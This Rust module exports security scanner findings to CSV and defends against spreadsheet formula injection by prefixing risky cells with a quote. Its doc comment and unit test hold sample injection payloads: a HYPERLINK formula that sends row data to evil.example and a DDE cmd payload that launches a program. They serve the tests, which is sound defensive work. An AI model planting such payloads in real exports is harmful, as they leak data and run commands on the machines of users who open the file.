//! CSV: every normalized field of a finding plus where it is stored, one row each, with a
//! header. Quoting of commas, quotes and line breaks is the `csv` crate's (RFC 4180);
//! tags are joined with `; `, times are RFC 3339, empty values are empty cells.
//!
//! A scanned site controls much of a finding's text (URLs, parameter names, page
//! elements), and a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a
//! formula (`=HYPERLINK("http://evil.example/?"&A2)` sends the row away). Such a cell
//! gets a leading `'`, as OWASP advises, unless it is a number or the export was asked
//! to keep formulas.

use crate::error::Result;
use crate::output::Sink;
use crate::registry::{ExportOptions, Exporter, Item, Report, rfc3339, single_output};
use chrono::{DateTime, Utc};
use std::path::PathBuf;

/// The columns, in order.
pub const HEADER: [&str; 32] = [
    "id",
    "connector",
    "app",
    "app_url",
    "app_id",
    "external_id",
    "name",
    "severity",
    "source_severity",
    "status",
    "source_status",
    "risk",
    "cve",
    "cvss",
    "cwe",
    "first_found",
    "last_found",
    "last_updated",
    "port",
    "protocol",
    "issue_type",
    "location",
    "element",
    "description",
    "solution",
    "detection",
    "tags",
    "fingerprint",
    "active",
    "first_seen",
    "last_seen",
    // Last: columns added later go at the end, where readers by position do not see them.
    "kev",
];

pub struct Csv {
    out: ::csv::Writer<Sink>,
    path: Option<PathBuf>,
    findings: u64,
    keep_formulas: bool,
}

impl Csv {
    pub fn new(opts: &ExportOptions) -> Result<Csv> {
        let (sink, path) = single_output(opts)?;
        let mut out = ::csv::WriterBuilder::new()
            .has_headers(false)
            .from_writer(sink);
        out.write_record(HEADER)?;
        Ok(Csv {
            out,
            path,
            findings: 0,
            keep_formulas: opts.csv_keep_formulas,
        })
    }
}

/// Whether a spreadsheet would take `cell` for a formula: it starts with `=`, `+`, `-`,
/// `@`, a tab or a carriage return, and is not a plain number (a negative issue id or
/// score stays as it is).
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

fn opt<T: ToString>(v: &Option<T>) -> String {
    v.as_ref().map(ToString::to_string).unwrap_or_default()
}

fn time(t: Option<DateTime<Utc>>) -> String {
    t.map(rfc3339).unwrap_or_default()
}

impl Exporter for Csv {
    fn write(&mut self, item: &Item<'_>) -> Result<()> {
        let s = item.finding;
        let f = &s.finding;
        let mut row: [String; 32] = [
            s.id.to_string(),
            s.connector.clone(),
            opt(&s.asset_name),
            opt(&s.asset_url),
            f.asset_external_id.clone(),
            f.external_id.clone(),
            f.name.clone(),
            f.severity.to_string(),
            f.source_severity.clone(),
            f.status.to_string(),
            opt(&f.source_status),
            s.risk.to_string(),
            opt(&f.cve),
            opt(&f.cvss),
            opt(&f.cwe),
            time(f.first_found),
            time(f.last_found),
            time(f.last_updated),
            opt(&f.port),
            opt(&f.protocol),
            opt(&f.issue_type),
            opt(&f.location),
            opt(&f.element),
            opt(&f.description),
            opt(&f.solution),
            opt(&f.detection),
            f.tags.join("; "),
            s.fingerprint.clone(),
            s.active.to_string(),
            rfc3339(s.first_seen),
            rfc3339(s.last_seen),
            s.kev.to_string(),
        ];
        if !self.keep_formulas {
            for cell in row.iter_mut().filter(|c| is_formula(c)) {
                cell.insert(0, '\'');
            }
        }
        self.out.write_record(&row)?;
        self.findings += 1;
        Ok(())
    }

    fn finish(self: Box<Self>) -> Result<Report> {
        let Csv {
            out,
            path,
            findings,
            ..
        } = *self;
        let bytes = out.into_inner().map_err(|e| e.into_error())?.finish()?;
        Ok(Report {
            findings,
            files: path.into_iter().collect(),
            bytes,
            ..Report::default()
        })
    }
}

#[cfg(test)]
mod tests {
    use super::is_formula;

    #[test]
    fn formulas_are_told_from_text_and_numbers() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?\"&A2)",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\t=1",
            "-",
        ] {
            assert!(is_formula(cell), "{cell}");
        }
        for cell in [
            "-4714581656683135232",
            "-1.5",
            "+1",
            "Cross-Site Scripting",
            "",
            "a=b",
        ] {
            assert!(!is_formula(cell), "{cell}");
        }
    }
}
